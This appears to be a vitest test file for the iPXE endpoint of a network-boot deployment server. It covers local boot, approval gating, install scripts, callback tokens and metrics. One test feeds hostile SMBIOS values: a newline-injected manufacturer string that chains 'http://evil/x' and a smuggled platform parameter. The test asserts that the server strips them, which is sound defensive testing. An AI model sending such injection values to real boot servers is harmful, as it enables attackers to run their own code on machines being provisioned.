import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Actor } from '../../core/deployments/deployment.entity.js';
import { alice, approver, bob } from '../support/test-core.js';
import {
  counterValue,
  startTestBootServer,
  TEST_API_TOKEN,
  type TestBootServer,
  TINY_IMAGE,
} from './helpers/boot-server-fixture.js';

let t: TestBootServer;
let nextMac = 0x10;
const freshMac = () => `52:54:00:00:01:${(nextMac++).toString(16).padStart(2, '0')}`;
const QEMU_QUERY =
  'platform=pcbios&arch=i386&uuid=6A1F2B3C-0000-4000-8000-000000000001&serial=SN%201&manufacturer=QEMU&product=Standard%20PC%20(i440FX)';

beforeAll(async () => {
  t = await startTestBootServer();
  await t.core.deployments.images().create(TINY_IMAGE);
});
afterAll(() => t?.close());

async function script(mac: string, query = '') {
  const res = await fetch(`${t.boot}/ipxe/${mac}${query ? `?${query}` : ''}`);
  return { status: res.status, type: res.headers.get('content-type'), text: await res.text() };
}

async function request(mac: string, os = 'tinylinux', by: Actor = alice) {
  return (await t.core.deployments.request({ mac, os, hostname: 'srv01' }, by)).deployment;
}

describe('GET /ipxe/:mac', () => {
  it('gives an unknown MAC the local-boot script, without any token', async () => {
    const before = await counterValue(t.registry, 'octofleet_ipxe_renders_total', { outcome: 'local' });
    const res = await script('52-54-00-aa-aa-aa', 'platform=pcbios');
    expect(res.status).toBe(200);
    expect(res.type).toMatch(/^text\/plain/);
    expect(res.text.split('\n')[0]).toBe('#!ipxe');
    expect(res.text).toContain('goto pcbios\n');
    expect(res.text).toContain('sanboot --no-describe --drive 0x80 ||\nexit 1\n');
    expect(res.text).not.toMatch(/\/cb\/|\/d\//);
    expect(await counterValue(t.registry, 'octofleet_ipxe_renders_total', { outcome: 'local' })).toBe(
      before + 1,
    );
  });

  it('boots UEFI machines locally through the local-boot GRUB, with a failing exit as the fallback', async () => {
    const res = await script('52-54-00-aa-aa-ab', 'platform=efi');
    expect(res.text).toContain('goto efi\n');
    expect(res.text).toContain(':efi\n# UEFI: a bare `exit`');
    expect(res.text).toMatch(
      /\nchain --autofree http:\/\/10\.0\.2\.2:8080\/local-boot\/bootx64\.efi \|\|\n.*\nexit 1\n/s,
    );
    // A bare `exit` (success) would stop some firmwares at their boot menu.
    expect(res.text).not.toMatch(/^exit$/m);
  });

  it.each([
    '52:54:00:00:00:77',
    '52-54-00-00-00-77',
    '525400000077',
    '5254.0000.0077',
    '52-54-00-00-00-77'.toUpperCase(),
  ])('finds the deployment whatever the MAC notation (%s)', async (notation) => {
    if (!(await t.core.deployments.repository().findActiveByMac('52:54:00:00:00:77' as never))) {
      await request('52:54:00:00:00:77');
    }
    const res = await script(notation);
    expect(res.text).toContain('is waiting for approval');
  });

  it('answers 422 for something that is not a MAC', async () => {
    const res = await fetch(`${t.boot}/ipxe/not-a-mac`);
    expect(res.status).toBe(422);
    expect(await res.json()).toMatchObject({
      error: 'input:invalid',
      detail: expect.stringContaining('not a MAC'),
    });
  });

  it('makes a pending machine wait: prints the deployment and who approves, sleeps, chains itself, no token', async () => {
    const mac = freshMac();
    const d = await request(mac);
    const res = await script(mac.replaceAll(':', '-'), QEMU_QUERY);
    expect(res.text).toContain(`deployment ${d.id} (tinylinux as srv01) is waiting for approval`);
    expect(res.text).toContain('requested by alice on shell');
    expect(res.text).toContain(`POST /api/v1/deployments/${d.id}/approve`);
    expect(res.text).toContain('sleep 1\n');
    expect(res.text).toContain(
      `chain --replace --autofree http://10.0.2.2:8080/ipxe/${mac.replaceAll(':', '-')}?platform=\${platform}`,
    );
    expect(res.text).not.toMatch(/\/cb\/|\/d\//);
    expect((await t.core.deployments.repository().get(d.id)).status).toBe('pending_approval');
  });

  it('serves the install script once approved, moves the deployment to booting and records what iPXE reported', async () => {
    const mac = freshMac();
    const d = await request(mac);
    await t.core.deployments.approve(d.id, bob, approver);
    const before = await counterValue(t.registry, 'octofleet_ipxe_renders_total', { outcome: 'install' });
    const res = await script(mac, QEMU_QUERY);
    expect(res.status).toBe(200);
    const kernel = res.text.split('\n').find((line) => line.startsWith('kernel '))!;
    expect(kernel).toMatch(
      /^kernel http:\/\/10\.0\.2\.2:8080\/files\/tiny\/vmlinuz initrd=initrd\.gz console=ttyS0 cb=http:\/\/10\.0\.2\.2:8080\/cb\/\S+ host=srv01 && goto done-kernel \|\|$/,
    );
    expect(res.text).toContain('initrd --name initrd.gz http://10.0.2.2:8080/files/tiny/initrd.gz');
    const token = /\/cb\/(\S+)/.exec(kernel)![1]!;
    expect((await t.core.deployments.resolveToken(token, 'callback'))?.id).toBe(d.id);

    const after = await t.core.deployments.repository().get(d.id);
    expect(after.status).toBe('booting');
    expect(after.resolvedProfile).toBe('kvm');
    expect(after.boot).toEqual({
      platform: 'pcbios',
      arch: 'i386',
      uuid: '6a1f2b3c-0000-4000-8000-000000000001',
      serial: 'SN 1',
      manufacturer: 'QEMU',
      product: 'Standard PC (i440FX)',
    });
    const events = await t.core.deployments.repository().events(d.id);
    expect(events.at(-1)).toMatchObject({ stage: 'booting', state: 'booting', source: 'boot-server' });
    expect(await counterValue(t.registry, 'octofleet_ipxe_renders_total', { outcome: 'install' })).toBe(
      before + 1,
    );
  });

  it('serves the install script again while booting (a reboot before the installer reported)', async () => {
    const mac = freshMac();
    const d = await request(mac);
    await t.core.deployments.approve(d.id, bob, approver);
    await script(mac, 'platform=pcbios');
    const again = await script(mac, 'platform=efi&arch=x86_64');
    expect(again.text).toContain('kernel http://10.0.2.2:8080/files/tiny/vmlinuz');
    const after = await t.core.deployments.repository().get(d.id);
    expect(after).toMatchObject({ status: 'booting', boot: { platform: 'efi', arch: 'x86_64' } });
    expect(
      (await t.core.deployments.repository().events(d.id)).filter((e) => e.stage === 'booting'),
    ).toHaveLength(1);
  });

  it.each([
    ['installing', ['installing']],
    ['configuring', ['installing', 'configuring']],
    ['done', ['installing', 'configuring', 'done']],
  ])('boots locally once the deployment is %s: never a reinstall, never a token', async (state, stages) => {
    const mac = freshMac();
    const d = await request(mac);
    await t.core.deployments.approve(d.id, bob, approver);
    await script(mac, 'platform=pcbios');
    for (const stage of stages) await t.core.deployments.recordEvent(d.id, { stage, source: 'installer' });
    expect((await t.core.deployments.repository().get(d.id)).status).toBe(state);
    const res = await script(mac, 'platform=pcbios');
    expect(res.text).toContain('sanboot --no-describe --drive 0x80');
    expect(res.text).not.toMatch(/kernel |\/cb\/|\/d\//);
  });

  it('boots a rejected or cancelled machine locally', async () => {
    const mac = freshMac();
    const d = await request(mac);
    await t.core.deployments.reject(d.id, bob, approver, 'not today');
    expect((await script(mac, 'platform=efi')).text).toMatch(/nothing to install for .*\ngoto efi\n/s);
  });

  it('keeps hostile SMBIOS strings out of the database and the script', async () => {
    const mac = freshMac();
    const d = await request(mac);
    await t.core.deployments.approve(d.id, bob, approver);
    const hostile = encodeURIComponent('QEMU\n#!ipxe\nchain http://evil/x ${net0/mac}');
    const res = await script(
      mac,
      `platform=pcbios%0Aboot&arch=\${x}&manufacturer=${hostile}&serial=${'9'.repeat(500)}`,
    );
    expect(res.status).toBe(200);
    expect(res.text).not.toContain('evil');
    const after = await t.core.deployments.repository().get(d.id);
    expect(after.boot).toEqual({
      manufacturer: 'QEMU#!ipxechain http://evil/x ${net0/mac}',
      serial: '9'.repeat(64),
    });
  });

  it('answers 500 when rendering fails, and leaves the deployment approved', async () => {
    await t.core.deployments
      .images()
      .create({ ...TINY_IMAGE, id: 'broken', boot: { ...TINY_IMAGE.boot, cmdline: 'x={{nope}}' } });
    const mac = freshMac();
    const d = await request(mac, 'broken');
    await t.core.deployments.approve(d.id, bob, approver);
    const before = await counterValue(t.registry, 'octofleet_ipxe_renders_total', { outcome: 'error' });
    const res = await fetch(`${t.boot}/ipxe/${mac}`);
    expect(res.status).toBe(500);
    expect(await res.json()).toEqual({ error: 'template:render-failed', detail: 'internal server error' });
    expect((await t.core.deployments.repository().get(d.id)).status).toBe('approved');
    expect(await counterValue(t.registry, 'octofleet_ipxe_renders_total', { outcome: 'error' })).toBe(
      before + 1,
    );
    expect(
      t.logs.some(
        (l) => l.msg === 'request failed' && String((l.err as { message: string }).message).includes('nope'),
      ),
    ).toBe(true);
  });

  it('is not on the admin listener, and the API is not on the boot listener', async () => {
    expect(
      (
        await fetch(`${t.api}/ipxe/52-54-00-aa-aa-aa`, {
          headers: { authorization: `Bearer ${TEST_API_TOKEN}` },
        })
      ).status,
    ).toBe(404);
    expect((await fetch(`${t.boot}/api/v1/deployments`)).status).toBe(404);
    expect((await fetch(`${t.boot}/metrics`)).status).toBe(404);
  });
});
